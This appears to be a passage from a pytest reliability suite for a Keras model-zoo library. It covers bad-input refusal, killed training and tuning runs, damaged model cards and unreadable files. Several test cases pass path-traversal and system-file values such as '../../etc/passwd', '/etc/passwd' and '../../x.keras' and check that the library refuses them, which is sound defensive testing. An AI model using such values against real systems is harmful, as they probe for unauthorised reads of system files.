"""Reliability (issues 9 and 29): bad input, killed processes, tampered artifacts, concurrency,
a cache that heals itself, a full disk, a read-only zoo home, a damaged manifest or card.

Every case is tried on purpose. Fast by default (2 kills per kind); ``RECTIFIER_ZOO_LONG=1``
runs the SAME tests with 25 seeded kills per kind.
"""

from __future__ import annotations

import contextlib
import errno
import functools
import io
import json
import os
import pathlib
import random
import re
import shutil
import signal
import subprocess
import sys
import time
import warnings
import zipfile

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")

import keras
import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import rectifier_zoo as rz
from rectifier_zoo import tuning
from rectifier_zoo.hub import locate as hub, integrity, model_card, remote
from rectifier_zoo._internal import atomic, paths
from rectifier_zoo import zoo
from rectifier_zoo.training import checkpoint, entry_data
from rectifier_zoo.hub import store as layout  # `store` is a fixture's name here
from rectifier_zoo.cli import main as cli_main
from rectifier_zoo.datasets.splits import Splits
from rectifier_zoo.errors import (
    ArtifactError,
    ConfigError,
    DataError,
    UnknownModelError,
    ZooError,
)
from rectifier_zoo.training.recipes import Recipe
from rectifier_zoo.training.fit import fit
from local_http import serving
from toydata import blob_splits, blobs

LONG = bool(os.environ.get("RECTIFIER_ZOO_LONG"))
REPS = 25 if LONG else 2
# The kill loops (also marked slow): the suite's 600 s per-test limit fits the fast mode;
# 25 kill-and-rerun rounds need more.
KILL_LOOP = pytest.mark.timeout(3600 if LONG else 600)
NAME = "mnist_rect_l1"
ENV = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "2", "PYTHONUNBUFFERED": "1"}
ROOT = os.geteuid() == 0  # root reads chmod-000 files and writes read-only folders
TESTS = str(pathlib.Path(__file__).resolve().parent)  # where child scripts find toydata.py


# ------------------------------------------------------------------ fixtures


@pytest.fixture(autouse=True)
def home(empty_zoo):
    """Every test's zoo home (conftest.empty_zoo: no remote store, no shipped exports)."""
    return empty_zoo


def tiny_splits(width=20):
    return blob_splits(300, 100, 100, features=width)


def tiny_model(width=20, seed=0):
    return rz.build_model("shapeset_rect", hidden=(8, 8), input_dim=width, num_classes=3, seed=seed)


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    """An export dir with versions 1 and 2 of a tiny ``mnist_rect_l1`` (784 wide, hidden 8, 8)."""
    export_dir = tmp_path_factory.mktemp("store")
    for seed in (1, 2):
        rz.export(rz.build_model(NAME, hidden=(8, 8), seed=seed), export_dir, verbose=0,
                  result={"dataset": "mnist", "test_error": 0.02, "valid_error": 0.02})  # fmt: skip
    return export_dir


def snapshot(root):
    root = pathlib.Path(root)
    return {str(p.relative_to(root)): integrity.sha256_file(p) for p in root.rglob("*") if p.is_file()}


def digit_dirs(model_dir):
    model_dir = pathlib.Path(model_dir)
    return sorted(int(p.name) for p in model_dir.iterdir() if p.name.isdigit()) if model_dir.is_dir() else []


def assert_every_version_whole(model_dir):
    """TF Serving's scan: every all-digit folder must be a whole, verified version."""
    found = digit_dirs(model_dir)
    for v in found:
        folder = pathlib.Path(model_dir) / str(v)
        assert layout.is_whole(folder), folder
        card = model_card.read(folder)
        assert card["version"] == v
        integrity.check_tree(folder, card["files"])
    return found


@contextlib.contextmanager
def deadline(seconds):
    """Fail (instead of hanging) if the block takes longer than ``seconds``."""

    def expired(*_):
        raise TimeoutError(f"hung for more than {seconds}s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def refused(call, error=ZooError, match=None, seconds=120):
    """``call()`` must raise the zoo's ``error`` (one line, naming ``match``) within ``seconds``."""
    with deadline(seconds), pytest.raises(error, match=match) as info:
        call()
    message = str(info.value)
    assert message and "\n" not in message and "Traceback" not in message, message
    return message


# ====================================================================== 1. bad input


LOAD_CASES = [
    (None, ConfigError, "zoo name or a path"),
    (3, ConfigError, "got int"),
    (b"mnist_rect", ConfigError, "got bytes"),
    (["mnist_rect"], ConfigError, "got list"),
    ("", UnknownModelError, "unknown zoo entry ''"),
    ("mnist_rect_ll", UnknownModelError, "did you mean 'mnist_rect_l1'"),
    ("a" * 5000, UnknownModelError, "unknown zoo entry"),
    ("../../etc/passwd", ArtifactError, "is not a model|no such file"),
    ("/etc/passwd", ArtifactError, "is not a model"),
    ("a" * 300 + ".keras", ArtifactError, "cannot read .*File name too long"),
    ("nothing/\x00.keras", ArtifactError, "no such file or folder"),
]


@pytest.mark.parametrize("arg,error,match", LOAD_CASES, ids=[repr(c[0])[:20] for c in LOAD_CASES])
def test_load_refuses_bad_names_and_paths(arg, error, match):
    refused(lambda: rz.load(arg, verbose=False), error, match)


@pytest.mark.parametrize("version", [0, -1, "abc", 1.5, True, float("nan"), 2**63, 10**30])
def test_load_and_export_refuse_bad_versions(version, store, tmp_path):
    refused(lambda: rz.load(store / NAME, version=version), ConfigError, "version must")
    model = tiny_model()
    refused(lambda: rz.export(model, tmp_path / "ex", version=version, verbose=0), ConfigError, "version must")
    assert not (tmp_path / "ex").exists()  # refused before anything was written


def test_load_of_things_that_are_not_models(tmp_path):
    (tmp_path / "empty").mkdir()
    refused(lambda: rz.load(tmp_path / "empty"), ArtifactError, "is not a model")
    (tmp_path / "dir.keras").mkdir()
    refused(lambda: rz.load(tmp_path / "dir.keras"), ArtifactError, "is not a model")
    (tmp_path / "noise.keras").write_bytes(np.random.default_rng(0).bytes(2000))
    refused(lambda: rz.load(tmp_path / "noise.keras"), ArtifactError, "noise.keras could not be loaded as a Keras model: it is not a .keras file .not a zip")
    with zipfile.ZipFile(tmp_path / "junk.keras", "w") as z:  # a zip, but of garbage
        z.writestr("config.json", "{not json")
        z.writestr("model.weights.h5", b"garbage")
    refused(lambda: rz.load(tmp_path / "junk.keras"), ArtifactError, "junk.keras could not be loaded as a Keras model")
    with zipfile.ZipFile(tmp_path / "other.keras", "w") as z:
        z.writestr("hello.txt", "a zip of something else")
    refused(lambda: rz.load(tmp_path / "other.keras"), ArtifactError, "other.keras could not be loaded")


def test_unreadable_files_are_refused_without_hanging(store, tmp_path):
    # chmod 000 does not stop root, so a FIFO (a read would block forever) and a
    # folder stand in for "unreadable"; chmod 000 is tried too when not root.
    os.mkfifo(tmp_path / "pipe.keras")
    refused(lambda: rz.load(tmp_path / "pipe.keras"), ArtifactError, "not a regular file", seconds=20)
    version = tmp_path / "v1"
    shutil.copytree(store / NAME / "1", version)
    card = version / model_card.CARD
    card.unlink()
    os.mkfifo(card)
    refused(lambda: rz.load(version), ArtifactError, "model_card.json is not a regular file", seconds=20)
    card.unlink()
    card.mkdir()
    refused(lambda: rz.load(version), ArtifactError, "model_card.json")
    shutil.rmtree(card)
    shutil.copy(store / NAME / "1" / model_card.CARD, card)
    keras_file = version / f"{NAME}.keras"
    keras_file.unlink()
    keras_file.mkdir()  # the model file replaced by a folder
    refused(lambda: rz.load(version), ArtifactError, f"{keras_file} is missing")
    if not ROOT:
        shutil.rmtree(keras_file)
        shutil.copy(store / NAME / "1" / keras_file.name, keras_file)
        keras_file.chmod(0)
        refused(lambda: rz.load(keras_file), ArtifactError, str(keras_file))


@pytest.mark.parametrize(
    "card",
    [[1, 2], {"files": {}, "keras_file": ["a"]}, {"files": {"../../x.keras": "0" * 64}, "keras_file": "../../x.keras"},
     {"files": "all of them"}],
    ids=["list", "keras_file-list", "escaping-path", "files-str"],
)  # fmt: skip
def test_malformed_cards_are_refused(card, store, tmp_path):
    version = tmp_path / "1"
    shutil.copytree(store / NAME / "1", version)
    (version / model_card.CARD).write_text(json.dumps(card))
    refused(lambda: rz.load(version), ArtifactError)


def test_malformed_training_result_beside_a_keras_file(tmp_path, zoo_log):
    model = tiny_model()
    model.save(tmp_path / "m.keras")
    (tmp_path / "m.json").write_text("[1, 2]")
    refused(lambda: rz.load(tmp_path / "m.keras"), ArtifactError, "m.json is not a training result")
    (tmp_path / "m.json").write_text('{"test_error": "abc"}')
    zoo_log()
    rz.load(tmp_path / "m.keras")  # a non-number error is shown as not recorded, never crashes
    assert zoo_log()[-1].endswith("(test error not recorded)")


@settings(max_examples=60 if LONG else 25, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.text(max_size=60))
def test_any_string_given_to_load_or_get_spec_is_a_zoo_error(text):
    try:
        rz.get_spec(text)
    except UnknownModelError:
        pass
    try:
        rz.load(text, verbose=False)
    except ZooError as err:
        assert "\n" not in str(err).strip()
    else:
        raise AssertionError(f"rz.load({text!r}) found a model")


@settings(max_examples=40 if LONG else 20, deadline=None)
@given(
    st.integers(2, 30), st.integers(1, 8), st.sampled_from(["train", "valid", "test"]),
    st.sampled_from([np.nan, np.inf, -np.inf]), st.data(),
)  # fmt: skip
def test_any_nan_or_inf_anywhere_is_refused(n, width, split, bad, data):
    pairs = {s: blobs(n, width, seed=i) for i, s in enumerate(("train", "valid", "test"))}
    x = pairs[split][0]
    x[data.draw(st.integers(0, n - 1)), data.draw(st.integers(0, width - 1))] = bad
    with pytest.raises(DataError, match=f"split '{split}': features contain NaN or inf"):
        Splits("blobs", pairs["train"], pairs["valid"], pairs["test"], 3, (width,))


def _mutated(kind):
    """Splits that were valid when made, then changed in place (arrays are mutable)."""
    splits = tiny_splits()
    x, y = splits.train
    if kind == "nan":
        x[5, 3] = np.nan
    elif kind == "inf":
        x[0, 0] = np.inf
    elif kind == "label-out-of-range":
        y[7] = 3
    elif kind == "negative-label":
        y[0] = -1
    return splits


@pytest.mark.parametrize(
    "kind,error,match",
    [("nan", DataError, "NaN or inf"), ("inf", DataError, "NaN or inf"),
     ("label-out-of-range", DataError, r"labels must lie in \[0, 3\)"),
     ("negative-label", DataError, r"labels must lie in \[0, 3\)")],
)  # fmt: skip
def test_fit_refuses_bad_data_before_training(kind, error, match):
    model = tiny_model()
    before = [w.copy() for w in model.get_weights()]
    refused(lambda: fit(model, _mutated(kind), Recipe(epochs=2), verbose=0), error, match)
    assert all(np.array_equal(a, b) for a, b in zip(before, model.get_weights()))  # not trained


def test_splits_refuse_wrong_shapes_dtypes_and_labels():
    tr, va, te = blobs(30), blobs(10), blobs(10)
    cases = [
        ({"train": (tr[0], tr[1].astype("float32"))}, "labels must be a 1-D integer array, got float32"),
        ({"train": (tr[0].astype("float64"), tr[1])}, "must be a float32 array .* got float64"),
        ({"train": (tr[0].reshape(30, 4, 5), tr[1])}, r"shape \(30, 4, 5\)"),
        ({"train": (tr[0].tolist(), tr[1])}, "got list"),
        ({"train": (tr[0], tr[1], tr[1])}, "must be a pair .x, y., got tuple of length 3"),
        ({"train": None}, "must be a pair .x, y., got NoneType"),
        ({"num_classes": "3"}, "num_classes must be an integer >= 1, got '3'"),
        ({"num_classes": 0}, "num_classes must be an integer >= 1"),
        ({"valid": (va[0][:, :10], va[1])}, "same number .>= 1. of features, got 20 / 10 / 20"),
        ({"train": (tr[0][:5], tr[1])}, "5 examples but 30 labels"),
    ]
    for change, match in cases:
        kwargs = {"name": "blobs", "train": tr, "valid": va, "test": te, "num_classes": 3, "input_shape": (20,)}
        refused(functools.partial(Splits, **{**kwargs, **change}), DataError, match)


def test_fit_refuses_bad_arguments(tmp_path):
    splits = tiny_splits()
    (tmp_path / "file").write_text("x")
    cases = [
        (tiny_model(), (splits.train, splits.valid, splits.test), Recipe(epochs=1), {}, "splits must be a rz.datasets.Splits"),
        (tiny_model(), splits, "fast", {}, "recipe must be a rz.Recipe"),
        (tiny_model(width=784), splits, Recipe(epochs=1), {}, "has 20 features but model .* takes 784"),
        (rz.build_model("shapeset_rect", hidden=(8,), input_dim=20, num_classes=2), splits, Recipe(epochs=1), {},
         "has 3 classes but model .* outputs 2"),
        (tiny_model(), splits.subset(n_valid=0), Recipe(epochs=1), {}, "split.s. valid are empty"),
        (tiny_model(), splits, Recipe(epochs=1), {"seed": -1}, "seed must lie in"),
        (tiny_model(), splits, Recipe(epochs=1), {"seed": 2**40}, "seed must lie in"),
        (tiny_model(), splits, Recipe(epochs=1), {"verbose": 7}, "unknown verbose 7"),
        (tiny_model(), splits, Recipe(epochs=1), {"checkpoint_dir": tmp_path / "file"}, "checkpoint_dir .* cannot be a folder"),
    ]  # fmt: skip
    for model, data, recipe, kwargs, match in cases:
        refused(functools.partial(fit, model, data, recipe, **{"verbose": 0, **kwargs}), ConfigError, match)


def test_train_refuses_bad_arguments_before_any_work(tmp_path):
    (tmp_path / "file").write_text("x")
    splits = tiny_splits(width=1024)
    cases = [
        ({"name": None}, UnknownModelError, "unknown zoo entry None"),
        ({"name": "shapeset_relu"}, UnknownModelError, "did you mean"),
        ({"epochs": -1}, ConfigError, "epochs must lie in"),
        ({"epochs": "3"}, ConfigError, "epochs must be an integer"),
        ({"learning_rate": float("nan")}, ConfigError, "learning_rate must be finite"),
        ({"learning_rate": float("inf")}, ConfigError, "learning_rate must be finite"),
        ({"learning_rate": 0.0}, ConfigError, "learning_rate must lie in"),
        ({"batch_size": 0}, ConfigError, "batch_size must lie in"),
        ({"momentum": 1.0}, ConfigError, "momentum must lie in"),
        ({"l1": -1.0}, ConfigError, "has no L1 penalty"),
        ({"name": "shapeset_rect_l1", "l1": float("nan")}, ConfigError, "l1 must be finite"),
        ({"pretrain_l1": 1e-4}, ConfigError, "shapeset_rect is not pre-trained, so pretrain_l1 cannot.*use its _dae entry"),
        ({"pretrain_epochs": 2}, ConfigError, "so pretrain_epochs cannot apply"),
        ({"name": "shapeset_rect_dae", "pretrain_learning_rate": 0.0}, ConfigError, "pretrain learning_rate must lie in"),
        ({"name": "shapeset_rect_l1_dae", "pretrain_l1": -1.0}, ConfigError, "pretrain_l1 must lie in"),
        ({"warmup": 3}, ConfigError, r"unknown training option\(s\) \['warmup'\]"),
        ({"seed": -1}, ConfigError, "seed must lie in"),
        ({"seed": "0"}, ConfigError, "seed must be an integer"),
        ({"verbose": 3}, ConfigError, "unknown verbose 3"),
        ({"splits": "shapeset"}, ConfigError, "splits must be a rz.datasets.Splits"),
        ({"splits": tiny_splits()}, ConfigError, "has 20 features but model 'shapeset_rect' takes 1024"),
        ({"out": tmp_path / "file"}, ConfigError, "out .* cannot be a folder"),
        ({"out": tmp_path / "file" / "sub"}, ConfigError, "its parent .* is a file"),
        ({"checkpoint_dir": tmp_path / "file"}, ConfigError, "checkpoint_dir .* cannot be a folder"),
    ]
    for change, error, match in cases:
        kwargs = {"name": "shapeset_rect", "epochs": 1, "splits": splits, "verbose": 0, **change}
        name = kwargs.pop("name")
        refused(functools.partial(rz.train, name, **kwargs), error, match)


def test_export_refuses_bad_targets(tmp_path):
    model = tiny_model()
    (tmp_path / "file").write_text("x")
    refused(lambda: rz.export(model, tmp_path / "file", verbose=0), ConfigError, "export_dir .*file.* cannot be a folder")
    refused(lambda: rz.export(model, tmp_path / "file" / "sub", verbose=0), ConfigError, "its parent .* is a file")
    refused(lambda: rz.export(model, None, verbose=0), ConfigError, "export_dir must be a folder path")
    refused(lambda: rz.export(model, 5, verbose=0), ConfigError, "export_dir must be a folder path")
    refused(lambda: rz.export("nothing_like_this", tmp_path / "ex", verbose=0), UnknownModelError)
    refused(lambda: rz.export(None, tmp_path / "ex", verbose=0), ConfigError, "takes a keras.Model")
    refused(lambda: rz.export(model, tmp_path / "ex", name="../up", verbose=0), ConfigError, "not a safe folder name")
    refused(lambda: rz.export(model, tmp_path / "ex", result="great", verbose=0), ArtifactError, "result must be")
    if not ROOT:  # root writes into read-only folders, so the case only exists for users
        (tmp_path / "ro").mkdir()
        (tmp_path / "ro").chmod(0o555)
        try:
            refused(lambda: rz.export(model, tmp_path / "ro", verbose=0), ZooError, "ro")
        finally:
            (tmp_path / "ro").chmod(0o755)
    assert not any(p.name.isdigit() for p in tmp_path.rglob("*"))


def test_datasets_load_refuses_bad_input(tmp_path):
    (tmp_path / "file").write_text("x")
    cases = [
        (("nosuch",), {}, ConfigError, "unknown dataset 'nosuch'"),
        ((None,), {}, ConfigError, "unknown dataset None"),
        (("mnist",), {"data_dir": 5}, ConfigError, "data_dir must be a folder path"),
        (("mnist",), {"data_dir": tmp_path / "file"}, ConfigError, "data_dir .* cannot be a folder"),
        (("mnist",), {"data_dir": tmp_path / "empty"}, DataError, "not found"),
        (("mnist",), {"bogus": 1}, ConfigError, "does not take bogus"),
        (("shapeset",), {"n_train": -1}, ConfigError, "n_train must be a non-negative integer"),
        (("shapeset",), {"n_train": 10**12}, ConfigError, "n_train must be at most"),
        (("shapeset",), {"seed": "a"}, ConfigError, "seed must be a non-negative integer"),
    ]
    for args, kwargs, error, match in cases:
        refused(functools.partial(rz.datasets.load, *args, **kwargs), error, match)


def test_tuning_search_refuses_bad_input(tmp_path):
    (tmp_path / "file").write_text("x")
    splits = tiny_splits()
    base = {"splits": splits, "space": tuning.SearchSpace(hidden=(4,)), "max_trials": 1, "epochs": 1, "progress": False,
            "project_dir": tmp_path / "p", "results_dir": tmp_path / "r"}  # fmt: skip
    cases = [
        ({"name": "nosuch"}, UnknownModelError, "unknown zoo entry"),
        ({"tuner": "genetic"}, ConfigError, "unknown tuner 'genetic'"),
        ({"max_trials": 0}, ConfigError, "max_trials must lie in"),
        ({"max_trials": "3"}, ConfigError, "max_trials must be an integer"),
        ({"epochs": 0}, ConfigError, "epochs must lie in"),
        ({"splits": "shapeset"}, ConfigError, "splits must be a rz.datasets.Splits"),
        ({"splits": _mutated("nan")}, DataError, "NaN or inf"),
        ({"project_dir": tmp_path / "file"}, ConfigError, "project_dir .* cannot be a folder"),
        ({"results_dir": tmp_path / "file"}, ConfigError, "results_dir .* cannot be a folder"),
        ({"oracle": "127.0.0.1:1"}, ConfigError, "--oracle is for distributed searches"),
        ({"worker": "w", "oracle": "nohost"}, ConfigError, "HOST:PORT"),
    ]
    for change, error, match in cases:
        kwargs = {**base, **change}
        name = kwargs.pop("name", "shapeset_rect")
        refused(functools.partial(tuning.search, name, **kwargs), error, match)
    # a search's ranges are checked where its space is made, before any search starts
    refused(lambda: tuning.SearchSpace(learning_rate=(1.0, 0.0)), ConfigError, "empty or inverted")
    refused(lambda: tuning.SearchSpace(learning_rate=(float("nan"), 1.0)), ConfigError, "learning_rate range")
    assert not (tmp_path / "p").exists() and not (tmp_path / "r").exists()  # nothing started


def run_cli(argv):
    err, out = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out), deadline(120):
        try:
            code = cli_main([str(a) for a in argv])
        except SystemExit as exit_:
            code = exit_.code
    return code, out.getvalue(), err.getvalue()


def cli_cases(tmp):
    junk = tmp / "junk.keras"
    return [
        ([], "required: COMMAND"),
        (["fly"], "invalid choice: 'fly'"),
        (["train"], "required: name"),
        (["train", "shapeset_relu"], "did you mean"),
        (["train", "../../etc/passwd"], "unknown zoo entry"),
        (["train", "shapeset_rect", "--epochs", "-1"], "must be >= 0"),
        (["train", "shapeset_rect", "--epochs", "many"], "expected a whole number"),
        (["train", "shapeset_rect", "--learning-rate", "nan"], "finite number > 0"),
        (["train", "shapeset_rect", "--learning-rate", "inf"], "finite number > 0"),
        (["train", "shapeset_rect", "--batch-size", "0"], "batch_size must lie in"),
        (["train", "shapeset_rect_l1", "--l1", "nan"], "l1 must be finite"),
        (["train", "shapeset_rect", "--seed", str(2**40)], "seed must lie in"),
        (["train", "shapeset_rect", "--out", tmp / "file"], "cannot be a folder"),
        (["train", "shapeset_rect", "--checkpoint-dir", tmp / "file"], "cannot be a folder"),
        (["train", "mnist_rect", "--data-dir", tmp / "file"], "data_dir .* cannot be a folder"),
        (["train", "mnist_rect", "--data-dir", tmp / "empty"], "not found"),
        (["export"], "give a model NAME"),
        (["export", "../x"], "not a safe folder name"),
        (["export", "nosuch"], "unknown zoo entry"),
        (["export", "mnist_rect", "--model", junk], "junk.keras could not be loaded .* not a .keras file"),
        (["export", "mnist_rect", "--model", tmp / "none.keras"], "no such file or folder"),
        (["export", "mnist_rect", "--model", tmp / "file"], "is not a model"),
        (["export", "mnist_rect", "--model", junk, "--export-dir", tmp / "file"], "export_dir .* cannot be a folder"),
        (["export", "mnist_rect", "--version", "0"], "--version must be >= 1"),
        (["export", "mnist_rect", "--version", "-1"], "must be >= 0"),
        (["export", "mnist_rect", "--version", "abc"], "expected a whole number"),
        (["export", "mnist_rect", "--model", junk, "--version", str(2**64)], "version must lie in"),
        (["export", "--serving-config", "--export-dir", tmp / "nodir"], "does not exist"),
        (["export", "--serving-config", "--export-dir", tmp / "file"], "is a file, not a folder"),
        (["tune"], "required: name"),
        (["tune", "nosuch"], "unknown zoo entry"),
        (["tune", "shapeset_rect", "--max-trials", "0"], "must be >= 1"),
        (["tune", "shapeset_rect", "--hidden", "a,b"], "expected sizes like 16,16"),
        (["tune", "shapeset_rect", "--learning-rate-range", "1,0"], "empty or inverted"),
        (["tune", "shapeset_rect", "--chief"], "need --oracle"),
        (["tune", "shapeset_rect", "--project-dir", tmp / "file"], "project_dir .* cannot be a folder"),
        (["tune", "shapeset_rect", "--results-dir", tmp / "file"], "results_dir .* cannot be a folder"),
        (["list", "--bogus"], "unrecognized arguments"),
    ]


def test_every_cli_command_answers_bad_input_with_one_line(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "file").write_text("x")
    (tmp_path / "junk.keras").write_bytes(b"junk")
    for argv, match in cli_cases(tmp_path):
        code, _out, err = run_cli(argv)
        lines = err.strip().splitlines()
        assert code == 2 and len(lines) == 1, (argv, code, err[-2000:])
        assert "Traceback" not in err and re.search(match, lines[0]), (argv, lines)
    assert not (tmp_path / "runs").exists()  # every refusal came before training


def test_cli_in_a_subprocess_prints_no_traceback(tmp_path):
    (tmp_path / "junk.keras").write_bytes(b"junk")
    argvs = [["export", "mnist_rect", "--model", "junk.keras"], ["train", "mnist_rect", "--data-dir", "nowhere"]]
    for argv in argvs:
        proc = subprocess.run([sys.executable, "-m", "rectifier_zoo", *argv], cwd=tmp_path, env=ENV,
                              capture_output=True, text=True, check=False, timeout=180)  # fmt: skip
        lines = proc.stderr.strip().splitlines()
        assert proc.returncode == 2 and len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
        assert lines[0].startswith(f"rectifier-zoo {argv[0]}: error: ")


# ====================================================================== 2. killed processes


def spawn(script, *args, env=None):
    return subprocess.Popen([sys.executable, "-c", script, *map(str, args)], env={**ENV, **(env or {})},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)  # fmt: skip


def wait_line(child, marker, timeout=180):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        line = child.stdout.readline()
        if marker in line:
            return line
        if not line:
            break
    raise AssertionError(f"child never printed {marker!r}: {child.stderr.read()[-2000:] if child.poll() is not None else ''}")


def kill(child):
    child.send_signal(signal.SIGKILL)
    child.communicate(timeout=60)


def train_argv(ck, epochs):
    return ["train", "shapeset_rect", "--epochs", str(epochs), "--checkpoint-dir", str(ck), "--out", f"{ck}-runs",
            "--verbose", "2", "--batch-size", "10"]  # fmt: skip


def shrink_training(zoo_module, entry_data):
    """The entry's 3x1000 net and 10k examples shrunk, so a run takes seconds."""
    full_build = zoo_module.build_model
    zoo_module.build_model = lambda name, **kw: full_build(name, hidden=(8, 8), **kw)
    entry_data.load_splits = lambda spec, *a, **k: rz.datasets.load("shapeset", n_train=300, n_valid=100, n_test=100)


TRAIN_CHILD = f"""
# `rectifier-zoo train shapeset_rect --checkpoint-dir CK` through the real command line, shrunk.
import sys
sys.path.insert(0, {TESTS!r})
import keras, rectifier_zoo as rz
from rectifier_zoo import cli, zoo
from rectifier_zoo.training import entry_data
from test_reliability import shrink_training, train_argv
shrink_training(zoo, entry_data)
print("ready", flush=True)
sys.exit(cli.main(train_argv(sys.argv[1], sys.argv[2])))
"""


def rerun_here(call):
    """``(call(), what it printed)``, run in this process: a rerun after a kill needs no fresh
    TensorFlow import (the kill loops run 25 of them with RECTIFIER_ZOO_LONG=1)."""
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        returned = call()
    return returned, printed.getvalue()


def _checkpoint_is_readable(directory, epochs_done):
    state = checkpoint.load_state(directory)
    if state is None:
        return -1
    assert len(state["history"]["loss"]) == state["epoch"] + 1 <= epochs_done + 1
    with np.load(directory / state["files"]["weights"]) as weights:
        assert len(weights.files) == 6  # 3 Dense kernels and biases: whole
    return state["epoch"]


@pytest.mark.slow
@KILL_LOOP
def test_sigkill_during_training_then_rerun_loses_and_repeats_no_epoch(tmp_path, monkeypatch):
    epochs = 6
    rng = random.Random(9)
    for rep in range(REPS):
        ck = tmp_path / f"ck{rep}"
        child = spawn(TRAIN_CHILD, ck, epochs)
        wait_line(child, "ready")
        target = rng.randrange(1, epochs)
        wait_line(child, f"Epoch {target}/{epochs}")  # epoch target-1 (0-based) has finished
        time.sleep(rng.uniform(0, 0.5))  # anywhere in the next epoch, mid-write included
        kill(child)
        done = _checkpoint_is_readable(ck, epochs)
        assert done >= target - 2
        history_before = checkpoint.load_state(ck)["history"] if done >= 0 else {"loss": []}
        with monkeypatch.context() as patch:
            patch.setattr(zoo, "build_model", zoo.build_model)  # shrink_training's changes, undone after
            patch.setattr(entry_data, "load_splits", entry_data.load_splits)
            shrink_training(zoo, entry_data)
            code, printed = rerun_here(lambda: cli_main(train_argv(ck, epochs)))
        assert code == 0, printed[-2000:]
        if done >= 0:
            assert f"resuming from {ck} after epoch {done + 1}" in printed
        started = [line for line in printed.splitlines() if line.startswith("Epoch ")]
        assert started == [f"Epoch {e}/{epochs}" for e in range(done + 2, epochs + 1)]  # each once, none again
        result = json.loads((tmp_path / f"ck{rep}-runs" / "shapeset_rect.json").read_text())
        assert result["epochs"] == epochs and len(result["history"]["loss"]) == epochs
        assert result["history"]["loss"][: done + 1] == history_before["loss"]  # finished work kept as it was


def test_checkpoint_interrupted_between_files_resumes_from_the_committed_epoch(tmp_path, monkeypatch):
    """A kill after weights.npz is replaced but before state.json commits must not mix epochs."""
    model = tiny_model()
    model.compile(optimizer="sgd", loss="sparse_categorical_crossentropy")
    checkpoint.save(tmp_path, model, 0, {"loss": [1.0]})
    committed = [w.copy() for w in model.get_weights()]
    model.set_weights([w + 1 for w in committed])  # the next epoch's weights

    def killed(*_args, **_kwargs):
        raise KeyboardInterrupt("killed before the commit")

    with monkeypatch.context() as patch, pytest.raises(KeyboardInterrupt):
        patch.setattr(checkpoint.atomic, "write_json", killed)
        checkpoint.save(tmp_path, model, 1, {"loss": [1.0, 0.5]})
    fresh = tiny_model(seed=5)
    fresh.compile(optimizer="sgd", loss="sparse_categorical_crossentropy")
    state, _ = checkpoint.restore(tmp_path, fresh)
    assert state["epoch"] == 0
    assert all(np.array_equal(a, b) for a, b in zip(fresh.get_weights(), committed))
    checkpoint.save(tmp_path, model, 1, {"loss": [1.0, 0.5]})  # the next commit tidies up
    named = checkpoint.load_state(tmp_path)["files"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".npz") == sorted(named.values())


def tiny_search(project_dir, results_dir, trials):
    """A search of shapeset_rect small enough to take seconds a trial."""
    return tuning.search("shapeset_rect", tuning.SearchSpace(hidden=(4,)), splits=blob_splits(200, 60, 60),
                         max_trials=int(trials), epochs=2, project_dir=project_dir, results_dir=results_dir,
                         retrain=False, progress=True)  # fmt: skip


TUNE_CHILD = f"""
import sys
sys.path.insert(0, {TESTS!r})
from test_reliability import tiny_search
print("ready", flush=True)
out = tiny_search(*sys.argv[1:4])
print("finished", out.record["trials"], out.record["completed"], flush=True)
"""


def _trials(project_dir):
    found = {}
    for path in pathlib.Path(project_dir).glob("trial_*/trial.json"):
        trial = json.loads(path.read_text())  # whole JSON, or the read fails the test
        found[trial["trial_id"]] = trial
    return found


@pytest.mark.slow
@KILL_LOOP
def test_sigkill_during_tuning_then_rerun_keeps_finished_trials(tmp_path):
    trials = 3
    rng = random.Random(3)
    for rep in range(REPS):
        project_dir, results = tmp_path / f"p{rep}", tmp_path / f"r{rep}"
        child = spawn(TUNE_CHILD, project_dir, results, trials)
        wait_line(child, "ready")
        wait_line(child, "trial 1/")  # at least one trial finished
        time.sleep(rng.uniform(0, 1.5))
        kill(child)
        finished = {t: v for t, v in _trials(project_dir).items() if v["status"] == "COMPLETED"}
        assert finished
        out, printed = rerun_here(lambda: tiny_search(project_dir, results, trials))
        after = _trials(project_dir)
        assert (out.record["trials"], out.record["completed"]) == (trials, trials), printed[-1000:]
        assert len(after) == trials and all(v["status"] == "COMPLETED" for v in after.values())
        for trial_id, trial in finished.items():  # finished trials kept, not re-run
            assert after[trial_id]["score"] == trial["score"]
        record = json.loads((results / "shapeset_rect.json").read_text())
        assert record["trials"] == trials


# Prepended to a child's script: it stops at the one step that makes a version visible,
# store.rename_staged, as its last argument says. "block": for good, to be killed at the
# worst moment (every file written, nothing published); "meet:N:DIR": until N writers
# have reached it (each leaves a file in DIR; at most 120 s), so that they collide there;
# "sleep:S": S seconds, so that writers that do not wait for each other all get there;
# "0": not at all. It says so on stdout first, with the version it is about to publish.
AT_RENAME = """
import os, pathlib, sys, time
from rectifier_zoo.hub import store
_rename, _pause = store.rename_staged, sys.argv.pop()
def _met(writers, folder):
    pathlib.Path(folder, str(os.getpid())).touch()
    end = time.monotonic() + 120
    while len(os.listdir(folder)) < writers and time.monotonic() < end:
        time.sleep(0.01)
def _paused(staging, target):
    print("paused before rename to", pathlib.Path(target).name, flush=True)
    if _pause == "block":
        time.sleep(3600)
    elif _pause.startswith("sleep:"):
        time.sleep(float(_pause[6:]))
    else:
        _, writers, folder = _pause.split(":", 2)
        _met(int(writers), folder)
    return _rename(staging, target)
if _pause != "0":
    store.rename_staged = _paused
"""

EXPORT_CHILD = AT_RENAME + """
import sys, rectifier_zoo as rz
model = rz.build_model("mnist_rect_l1", hidden=(8, 8), seed=int(sys.argv[2]))
print("ready", flush=True)
